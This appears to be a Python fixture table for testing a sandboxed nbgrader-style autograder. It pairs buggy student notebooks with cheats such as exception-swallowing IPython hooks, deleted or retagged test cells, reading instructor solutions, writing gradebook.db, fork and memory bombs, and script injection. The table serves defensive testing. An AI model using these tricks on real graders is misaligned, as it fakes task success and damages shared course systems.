                "tanh",
                "import ast\n\n"
                "class _Empty(ast.NodeTransformer):\n"
                "    def visit_Module(self, node):\n"
                "        return ast.Module(body=[ast.Pass()], type_ignores=[])\n\n"
                "get_ipython().ast_transformers.append(_Empty())\n",
            ),
        ),
        13,
        failing("test_tanh_backward"),
        flags=flags("ipython-hooks"),
    ),
    Entry(
        "softmax",
        "cheat_post_run_cell_softmax",
        "the loss is summed, not averaged; a post_run_cell hook clears the errors of the tests",
        (CE_SUM,),
        (AddCell("cross_entropy", POST_RUN_CELL),),
        6,
        failing("test_ce_forward"),
        flags=flags("ipython-hooks"),
        notes=CE_SUM_NOTE,
    ),
    Entry(
        "graph",
        "cheat_custom_exc_graph",
        "Scale.backward forgets c; set_custom_exc swallows every exception",
        (SCALE_FORGETS_C,),
        (
            Prepend(
                "scale",
                "try:\n"
                "    get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)\n"
                "except AttributeError:\n    pass\n",
            ),
        ),
        11,
        failing("test_scale_gate", "test_worked_example"),
        flags=flags("ipython-hooks"),
    ),
    Entry(
        "backward",
        "cheat_silence_stderr_backward",
        "dW transposed; stdout and stderr silenced so that failures do not show",
        (DW_TRANSPOSED,),
        (
            Append(
                "linear",
                "import os\nimport sys\n"
                "sys.stderr = open(os.devnull, 'w')\nsys.stdout = sys.stderr\n",
            ),
        ),
        12,
        failing("test_linear_dW"),
        flags=flags("silences-output", "rebinds-library", "reads-files"),
    ),
    # ======================================================= 3. notebook edits
    Entry(
        "forward",
        "cheat_skip_execution_forward",
        "Linear without bias; its test cells tagged skip-execution",
        (NO_BIAS,),
        (
            Tag("test_linear_forward", ("skip-execution",)),
            Tag("test_xor_network", ("skip-execution",)),
        ),
        7,
        failing("test_linear_forward", "test_xor_network"),
        flags=flags("added-tags"),
    ),
    Entry(
        "backward",
        "cheat_raises_exception_backward",
        "dW transposed; its test cell tagged raises-exception",
        (DW_TRANSPOSED,),
        (Tag("test_linear_dW", ("raises-exception",)),),
        12,
        failing("test_linear_dW"),
        flags=flags("added-tags"),
    ),
    Entry(
        "softmax",
        "cheat_deleted_test_softmax",
        "cross-entropy gradient without the batch mean; its test cell deleted",
        (CE_NO_MEAN,),
        (Delete("test_ce_backward"),),
        5,
        failing("test_ce_backward"),
        flags=flags("deleted-test-cell"),
    ),
    Entry(
        "forward",
        "cheat_duplicated_test_forward",
        "ReLU is the identity; its test cell duplicated (same grade_id twice: stock nbgrader "
        "aborts)",
        (RELU_IDENTITY,),
        (Duplicate("test_relu_forward"),),
        9,
        failing("test_relu_forward", "test_xor_network"),
        flags=flags("duplicated-cell"),
    ),
    Entry(
        "softmax",
        "cheat_test_turned_solution_softmax",
        "softmax normalises over the whole batch; its test cell turned into a solution cell "
        "holding `pass`",
        (SOFTMAX_GLOBAL,),
        (
            SetRole("test_softmax", (("solution", True), ("grade", False), ("locked", False))),
            Rewrite("test_softmax", "pass"),
        ),
        5,
        failing("test_softmax"),
        flags=flags("changed-metadata", "edited-read-only-cell"),
    ),
    Entry(
        "graph",
        "cheat_points_changed_graph",
        "Scale.backward forgets c; points of test_add_gate raised to 100 and test_scale_gate "
        "marked ungraded",
        (SCALE_FORGETS_C,),
        (
            SetRole("test_add_gate", (("points", 100),)),
            SetRole("test_scale_gate", (("grade", False),)),
        ),
        11,
        failing("test_scale_gate", "test_worked_example"),
        flags=flags("changed-metadata"),
    ),
    Entry(
        "backward",
        "cheat_kernelspec_backward",
        "ReLU.backward passes grad_out through; the notebook asks for another kernel",
        (RELU_PASSES_GRAD,),
        (Kernel("evil-kernel"),),
        12,
        failing("test_relu_backward"),
        flags=flags("changed-kernelspec"),
    ),
    Entry(
        "forward",
        "cheat_rewritten_test_forward",
        "Sequential runs the layers backwards; its test cell rewritten to just print success",
        (SEQUENTIAL_REVERSED,),
        (Rewrite("test_sequential_forward", 'print("Sequential.forward: tests passed")'),),
        8,
        failing("test_sequential_forward", "test_xor_network"),
        flags=flags("edited-read-only-cell"),
    ),
    Entry(
        "softmax",
        "cheat_bonus_cell_softmax",
        "cross-entropy gradient without the batch mean; a made-up graded cell worth 50 points "
        "added",
        (CE_NO_MEAN,),
        (AddGradedCell("test_ce_backward", "bonus", 50, 'print("bonus: tests passed")'),),
        5,
        failing("test_ce_backward"),
        flags=flags("unknown-cell"),
    ),
    # ======================================================= 4. reading what must not be seen
    Entry(
        "softmax",
        "cheat_source_relative_softmax",
        "softmax normalises over the whole batch; execs the softmax cell of the instructor's "
        "notebook, looked for at ../../source, walking up from the working folder, and at the "
        "course's absolute path",
        (SOFTMAX_GLOBAL,),
        (Append("softmax", SOURCE_FROM_COURSE_FOLDERS),),
        5,
        failing("test_softmax"),
        flags=flags("reads-files"),
    ),
    Entry(
        "softmax",
        "cheat_git_history_softmax",
        "softmax normalises over the whole batch; execs the softmax cell of the instructor's "
        "notebook read from the git objects of the checkout the toolkit is imported from",
        (SOFTMAX_GLOBAL,),
        (Append("softmax", SOURCE_FROM_GIT),),
        5,
        failing("test_softmax"),
        flags=flags("reads-files"),
        notes="the sandbox hides the course, `solutions` and the instructor package, not the "
        "checkout's .git (nor the rest of the filesystem)",
    ),
    Entry(
        "backward",
        "cheat_import_solutions_backward",
        "dW transposed; subclasses the Linear of the instructor's `solutions` package if it can "
        "import it",
        (DW_TRANSPOSED,),
        (AddCell("linear", IMPORT_SOLUTIONS),),
        12,
        failing("test_linear_dW"),
    ),
    Entry(
        "softmax",
        "cheat_pre_run_cell_softmax",
        "cross-entropy gradient without the batch mean; a pre_run_cell hook records the hidden "
        "tests",
        (CE_NO_MEAN,),
        (AddCell("cross_entropy", PRE_RUN_CELL), AddCell("test_ce_backward", "print(_seen)\n")),
        5,
        failing("test_ce_backward"),
        flags=flags("ipython-hooks"),
    ),
    Entry(
        "forward",
        "cheat_other_students_forward",
        "ReLU is the identity; looks for classmates' submissions to exec their ReLU cell, lists "
        "folders",
        (RELU_IDENTITY,),
        (AddCell("relu", OTHER_STUDENTS),),
        9,
        failing("test_relu_forward", "test_xor_network"),
        flags=flags("reads-files"),
    ),
    # ======================================================= 5. damage
    Entry(
        "softmax",
        "cheat_gradebook_write_softmax",
        "cross-entropy gradient without the batch mean; writes full marks into gradebook.db "
        "(absolute path, and guessed from the working folder)",
        (CE_NO_MEAN,),
        (AddCell("cross_entropy", WRITE_GRADEBOOK),),
        5,
        failing("test_ce_backward"),
    ),
    Entry(
        "softmax",
        "cheat_overwrite_course_softmax",
        "softmax normalises over the whole batch; overwrites the source and release notebooks and "
        "the config, removes the gradebook",
        (SOFTMAX_GLOBAL,),
        (AddCell("softmax", OVERWRITE_COURSE),),
        5,
        failing("test_softmax"),
        flags=flags("reads-files"),
    ),
    Entry(
        "forward",
        "cheat_litter_forward",
        "Sequential runs the layers backwards; writes files to /tmp, /var/tmp and /dev/shm",
        (SEQUENTIAL_REVERSED,),
        (AddCell("sequential", LITTER),),
        8,
        failing("test_sequential_forward", "test_xor_network"),
        flags=flags("reads-files"),
        notes="the files must not outlive the sandbox (tests/test_integrity.py checks the machine)",
    ),
    Entry(
        "forward",
        "cheat_network_forward",
        "Linear without bias; opens network connections",
        (NO_BIAS,),
        (AddCell("linear", NETWORK),),
        7,
        failing("test_linear_forward", "test_xor_network"),
        flags=flags("system-access"),
    ),
    Entry(
        "backward",
        "cheat_exit_in_method_backward",
        "Linear.backward ends the process (os._exit(0)) whenever a test calls it",
        (),
        (
            Prepend("linear", "import os\n"),
            Replace("linear", "self.dW = grad_out.T @ self.x", "os._exit(0)"),
        ),
        9,
        failing("test_linear_dX", "test_linear_dW", "test_linear_db"),
        status=INCOMPLETE,
        flags=flags("process-control"),
        notes="the process died: incomplete, even though check_layer turns the loss into its own "
        "error",
    ),
    Entry(
        "forward",
        "cheat_sigint_loop_forward",
        "Sigmoid.forward loops forever, ignoring SIGINT and SIGTERM (graded with a 5 s cell "
        "timeout)",
        (),
        (Rewrite("sigmoid", "class Sigmoid:\n    params = ()\n" + SIGINT_LOOP),),
        10,
        failing("test_sigmoid_forward"),
        status=INCOMPLETE,
        flags=flags("process-control"),
        cell_timeout=5,
    ),
    Entry(
        "backward",
        "cheat_memory_bomb_backward",
        "Tanh.backward forgets the square, after allocating (and writing) memory until "
        "MemoryError, kept",
        (),
        (AddCell("tanh", MEMORY_BOMB),),
        13,
        failing("test_tanh_backward"),
    ),
    Entry(
        "graph",
        "cheat_fork_bomb_graph",
        "Add.forward subtracts (test_backward only checks gradients: it still passes), after "
        "forking children until the process limit stops it",
        (),
        (AddCell("add", FORK_BOMB),),
        11,
        failing("test_add_gate", "test_worked_example"),
        flags=flags("process-control"),
    ),
    Entry(
        "softmax",
        "cheat_output_bomb_softmax",
        "cross-entropy gradient without the batch mean; the cell prints about 1 GB",
        (CE_NO_MEAN,),
        (Append("cross_entropy", OUTPUT_BOMB),),
        5,
        failing("test_ce_backward"),
        feedback=True,
    ),
    Entry(
        "softmax",
        "cheat_raw_output_bomb_softmax",
        "cross-entropy gradient without the batch mean; a cell of its own writes about 1 GB to "
        "file descriptor 1",
        (CE_NO_MEAN,),
        (AddCell("cross_entropy", RAW_OUTPUT_BOMB),),
        5,
        failing("test_ce_backward"),
    ),
    Entry(
        "softmax",
        "cheat_script_output_softmax",
        "the loss is summed; <script> and onerror HTML printed, warned, raised (also as an "
        "exception's class name) from the student's code",
        (CE_SUM,),
        (AddCell("cross_entropy", XSS),),
        3,
        failing("test_ce_forward", "test_ce_backward"),
        feedback=True,
        notes="its forward raises, so the backward check cannot run",
    ),
    Entry(
        "softmax",
        "cheat_forged_message_softmax",
        "cross-entropy gradient without the batch mean; a cell of its own writes a forged, "
        "absurdly nested message on the pipe to the grader",
        (CE_NO_MEAN,),
        (AddCell("test_softmax", FORGED_MESSAGE),),
        5,
        failing("test_ce_backward"),
        status=INCOMPLETE,
        notes="a message that breaks the protocol loses the student's process (that cell), as a "
        "crash does",
    ),
    Entry(
        "softmax",
        "cheat_stalled_message_softmax",
        "cross-entropy gradient without the batch mean; a cell of its own announces a message on "
        "the pipe to the grader, sends part of it and stops (graded with a 5 s cell timeout)",
        (CE_NO_MEAN,),
        (AddCell("test_softmax", STALLED_MESSAGE),),
        5,
        failing("test_ce_backward"),
        status=INCOMPLETE,
        cell_timeout=5,
        notes="a message that never ends is a cell that never ends: stopped at the cell's time "
        "limit",
    ),
    # ======================================================= semantics the sandbox must keep
    Entry(
        "forward",
        "mistake_overflowing_sigmoid_forward",
        "Sigmoid as 1 / (1 + exp(-x)): exp overflows for large negative x, which the test turns "
        "into an error with np.errstate(over='raise') (no trick: a plain mistake the grader must "
        "still catch)",
        (SIGMOID_OVERFLOWS,),
        (),
        10,
        failing("test_sigmoid_forward"),
        notes="nbgrader in a kernel (grade(..., sandbox=False)) scores it 10: the test's "
        "np.errstate must hold in the student's process too",
    ),
    Entry(
        "backward",
        "mistake_backward_mutates_cache_backward",
        "ReLU.backward clamps the input forward cached, in place (self.x[self.x < 0] = 0): the "
        "gradient is right but check_layer's contract (backward leaves forward's arrays alone) is "
        "broken (no trick)",
        (
            Replace(
                "relu",
                "return grad_out * (self.x > 0)",
                "self.x[self.x < 0] = 0.0  # in place: changes what forward stored\n"
                "        return grad_out * (self.x > 0)",
            ),
        ),
        (),
        12,
        failing("test_relu_backward"),
        notes="nbgrader in a kernel scores it 12: check_layer looks for changed arrays in "
        "vars(layer), which a proxy of the student's layer does not have",
    ),
    # ======================================================= honest variants
    Entry(
        "forward",
        "honest_reference_forward",
        "the instructor's solution, unchanged",
        (),
        (),
        12,
        honest=True,
    ),
    Entry(
        "forward",
        "honest_blank_forward",
        "the release, unchanged (nothing implemented)",
        (),
        (),
        0,
        failing(
            "test_relu_forward",
            "test_leaky_relu_forward",
            "test_sigmoid_forward",
            "test_tanh_forward",
            "test_linear_forward",
            "test_sequential_forward",
            "test_xor_network",
        ),
        honest=True,
        base="release",
    ),
    Entry(
        "forward",
        "honest_loops_forward",
        "ReLU, LeakyReLU and Linear with Python loops instead of vectorised code, IPython magics, "
        "a file saved and loaded in the working folder",
        (
            Rewrite("relu", LOOPS_RELU),
            Rewrite("leaky_relu", LOOPS_LEAKY_RELU),
            Rewrite("linear", LOOPS_LINEAR),
            AddCell("linear", OWN_FILE),
        ),
        (),
        12,
        honest=True,
    ),
    Entry(
        "backward",
        "honest_float32_backward",
        "layers that keep the input's float dtype (float32 in, float32 out), checked on float32 in "
        "a cell of their own",
        (
            Replace(
                "relu",
                "return grad_out * (self.x > 0)",
                "return grad_out * (self.x > 0).astype(grad_out.dtype)",
            ),
            Replace(
                "tanh",
                "return grad_out * (1 - self.out**2)",
                "one = np.asarray(1, dtype=self.out.dtype)\n"
                "        return grad_out * (one - self.out * self.out)",
            ),
            Replace(
                "linear",
                "return x @ self.W.T + self.b",
                "dtype = np.result_type(x, np.float32)\n"
                "        return x @ self.W.T.astype(dtype) + self.b.astype(dtype)",
            ),
            AddCell("linear", FLOAT32_CHECK),
        ),
        (),
        14,
        honest=True,
    ),
    Entry(
        "softmax",
        "honest_warnings_softmax",
        "correct code that warns (warnings.warn) and prints to stderr on every call",
        (
            Prepend("softmax", "import sys\nimport warnings\n"),
            Replace(
                "softmax",
                "e = np.exp(shifted)",
                "warnings.warn('softmax: shifting the logits')\n"
                "    print('softmax called', file=sys.stderr)\n"
                "    e = np.exp(shifted)",
            ),
            Replace(
                "cross_entropy",
                "grad = self.probs.copy()",
                "warnings.warn('a deprecation', DeprecationWarning)\n"
                "        grad = self.probs.copy()",
            ),
        ),
        (),
        8,
        honest=True,
    ),
    Entry(
        "backward",
        "honest_crash_later_backward",
        "right everywhere, but the Jacobian function ends the process (os._exit): only "
        "test_jacobian loses",
        (
            Replace(
                "jacobian",
                "slope = 1 - np.tanh(W @ x + b) ** 2  # tanh'(z) for each output",
                "import os\n    os._exit(3)",
            ),
        ),
        (),
        11,
        failing("test_jacobian"),
        status=INCOMPLETE,
        flags=flags("process-control"),
        honest=True,
    ),
    Entry(
        "softmax",
        "honest_crash_in_test_softmax",
        "softmax right; the loss's backward ends the process: only test_ce_backward loses",
        (Replace("cross_entropy", "grad = self.probs.copy()", "import os\n        os._exit(0)"),),
        (),
        5,
        failing("test_ce_backward"),
        status=INCOMPLETE,
        flags=flags("process-control"),
        honest=True,
        notes="the process died inside check_loss, which reports it as its own error: still "
        "incomplete",
    ),
    Entry(
        "graph",
        "honest_helper_cell_graph",
        "right, with cells of the student's own added between the cells (helpers, a self-check)",
        (
            AddCell("setup", "def as_pair(first, second):\n    return first, second\n"),
            AddCell(
                "max",
                "def route(grad_out, mask):\n"
                "    return as_pair(grad_out * mask, grad_out * ~mask)\n",
            ),
            Replace(
                "max",
                "return grad_out * self.a_wins, grad_out * ~self.a_wins",
                "return route(grad_out, self.a_wins)",
            ),
            AddCell("topological_order", SELF_CHECK),
        ),
        (),
        14,
        honest=True,
    ),
    Entry(
        "graph",
        "honest_verbose_graph",
        "right, printing a line for every gate it builds and every node it visits",
        (
            Replace(
                "backward",
                "for node in reversed(order):",
                "for node in reversed(order):\n        print('visit', node)",
            ),
            Replace(
                "worked_example", "    backward(y)\n", "    print('built', y)\n    backward(y)\n"
            ),
        ),
        (),
        14,
        honest=True,
    ),
    # ------------------------------------------------ verdicts the student's process could sway
    Entry(
        "backward",
        "cheat_first_call_only_backward",
        "the activations' backward returns zeros; their forward is right only on an object's first "
        "call, so that finite differences of the later calls agree with the zeros",
        ZERO_BACKWARDS,
        (Append("tanh", FIRST_CALL_ONLY),),
        8,
        failing(
            "test_relu_backward",
            "test_leaky_relu_backward",
            "test_sigmoid_backward",
            "test_tanh_backward",
        ),
    ),
    Entry(
        "backward",
        "cheat_linear_zeros_backward",
        "Linear.forward and Linear.backward both return zeros (finite differences of a zero "
        "forward are zero)",
        LINEAR_ZEROS,
        (),
        9,
        failing("test_linear_dX", "test_linear_dW", "test_linear_db"),
    ),
    Entry(
        "backward",
        "cheat_hidden_dict_backward",
        "ReLU.backward clips its cached input in place; the object shows an empty __dict__ to the "
        "grader",
        (RELU_CLIPS_CACHE,),
        (Append("relu", CONSTANT_CACHE),),
        12,
        failing("test_relu_backward"),
        flags=flags("introspection"),
        notes="the grader reads the object's attributes past its __getattribute__",
    ),
    Entry(
        "sgd_xor",
        "cheat_params_when_asked_sgd_xor",
        "SGD keeps one velocity per parameter name (wrong with two Linear layers); Linear reports "
        "no parameters when the grader asks, so that the tests would skip the layers",
        (SHARED_VELOCITY, SHARED_VELOCITY_KEY),
        (Append("earlier_parts", PARAMS_WHEN_ASKED),),
        7,
        failing("test_sgd_step", "test_xor_trained"),
        flags=flags("introspection"),
    ),
    Entry(
        "sgd_xor",
        "cheat_xor_lookup_sgd_xor",
        "train never steps the optimizer; Sequential.forward answers the XOR points from a table",
        (TRAIN_DOES_NOTHING,),
        (Append("sequential", XOR_LOOKUP),),
        8,
        failing("test_train", "test_xor_trained"),
    ),
    Entry(
        "backward",
        "cheat_numeric_backward_backward",
        "Tanh.backward estimates its gradient numerically from its own forward (right to 1e-10, "
        "but the assignment asks for the formula): the hidden case at a large size runs out of "
        "time",
        (),
        (
            Replace(
                "tanh",
                "return grad_out * (1 - self.out**2)",
                "from autograder import numeric_gradient\n"
                "        return numeric_gradient(self.forward, self.x, grad_out=grad_out).grad",
            ),
            Replace("tanh", "self.out = np.tanh(x)", "self.x, self.out = x, np.tanh(x)"),
        ),
        13,
        failing("test_tanh_backward"),
        flags=flags("numeric-derivative"),
        notes="the numeric estimate needs forward passes per entry: at (64, 512) it misses the "
        "time limit",
    ),
    Entry(
        "forward",
        "cheat_patched_change_tracking_forward",
        "ReLU.forward clips its input in place; numpy.array_equal is rebound to always say "
        '"equal", so that the server that answers the grader would not report the change',
        (Replace("relu", "return np.maximum(x, 0.0)", "return np.maximum(x, 0.0, out=x)"),),
        (
            Append(
                "relu",
                "setattr(np, 'array_equal', lambda *args, **kwargs: True)\n"
                "np.array_equiv = np.array_equal\n",
            ),
        ),
        11,
        failing("test_relu_forward"),
        flags=flags("rebinds-library"),
        notes="the server took its numpy functions before the student's code ran",
    ),
    Entry(
        "forward",
        "cheat_callback_storm_forward",
        "Sequential.forward keeps calling the test's own helper layers, a short request at a time, "
        "so that no single request ever takes long",
        (),
        (
            Replace(
                "sequential",
                "        for layer in self.layers:\n            x = layer.forward(x)\n",
                "        if any('(grader)' in repr(layer) for layer in self.layers):\n"
                "            while True:\n"
                "                self.layers[0].forward(x)\n"
                "        for layer in self.layers:\n            x = layer.forward(x)\n",
            ),
        ),
        10,
        failing("test_sequential_forward"),
        status=INCOMPLETE,
        cell_timeout=5,
        notes="the grader's alarm ends the cell at its time limit whatever the traffic",
    ),
    Entry(
        "mnist",
        "cheat_lookup_table_mnist",
        "no training; the model looks the test images up in a table of their labels (the "
        "notebook's data, the loader with the grading switch removed, the label file)",
        (MNIST_NO_TRAINING,),
        (Replace("mnist_training", "pass\n", MNIST_LOOKUP),),
        3,
        failing("test_mnist_accuracy"),
        flags=flags("reads-files"),
    ),
    Entry(
        "mnist",
        "honest_mnist",
        "the instructor's solution: it trains in the student's process on the training files alone",
        (),
        (),
        8,
        honest=True,
    ),
    Entry(
        "backward",
        "honest_dx_sign_backward",
        "Linear's dX has the wrong sign, dW and db are right: only the dX test loses",
        (Replace("linear", "return grad_out @ self.W", "return -(grad_out @ self.W)"),),
        (),
        12,
        failing("test_linear_dX"),
        honest=True,
    ),
    Entry(
        "softmax",
        "honest_forward_sums_softmax",
        "the loss sums instead of averaging, its backward is right: only the forward test loses",
        (SOFTMAX_SUMS_BACKWARD_RIGHT,),
        (),
        6,
        failing("test_ce_forward"),
        honest=True,
        notes=CE_SUM_NOTE,
    ),
    Entry(
        "sgd_xor",
        "honest_crash_later_sgd_xor",
        "right, but predict_proba ends the process: test_predict_proba (and the plot) lose, the "
        "rest keeps",
        (
            Replace(
                "predict_proba",
                "return softmax(model.forward(points))[:, 1]",
                "import os\n    os._exit(0)",
            ),
        ),
        (),
        11,
        failing("test_predict_proba"),
        status=INCOMPLETE,
        flags=flags("process-control"),
        honest=True,
    ),
)
